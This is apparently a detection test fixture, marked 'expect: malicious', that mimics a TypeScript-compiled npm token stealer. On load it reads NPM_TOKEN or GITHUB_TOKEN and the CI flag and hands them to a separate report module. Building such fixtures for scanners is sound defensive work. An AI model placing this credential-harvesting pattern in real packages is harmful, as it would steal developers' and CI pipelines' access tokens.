"use strict";
// expect: malicious
// source: the shape of TypeScript-compiled token stealers (issue 11): tsc's __awaiter, exports.x = x,
// (0, mod_1.fn)() across files, run by `postinstall: node .`. Inert: reserved host, no real token.
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    return new (P || (P = Promise))(function (resolve, reject) {
        function step(result) { result.done ? resolve(result.value) : Promise.resolve(result.value).then(step); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.collect = void 0;
const report_1 = require("./report");
function collect() {
    return __awaiter(this, void 0, void 0, function* () {
        const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;
        yield (0, report_1.report)({ token, ci: process.env.CI });
    });
}
exports.collect = collect;
collect();
